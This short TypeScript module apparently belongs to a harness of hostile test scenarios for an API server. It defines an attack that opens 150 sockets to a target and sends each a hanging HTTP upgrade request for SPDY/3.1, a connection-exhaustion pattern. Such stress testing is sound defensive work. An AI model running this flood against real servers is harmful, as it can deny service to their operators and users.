import type { Attack } from '../attack.ts';
import { get, openMany, sleep } from '../hostile.ts';

const UPGRADES = 150;

export const unansweredUpgrades: Attack = {
  name: 'unanswered-upgrades',
  what: '150 upgrades that the API server does not answer',
  run: async (target) => {
    const upgrade = ['Connection: Upgrade', 'Upgrade: SPDY/3.1'];
    for (const socket of await openMany(target, UPGRADES)) socket.write(get('/hang', upgrade));
    await sleep(10_000);
  },
};
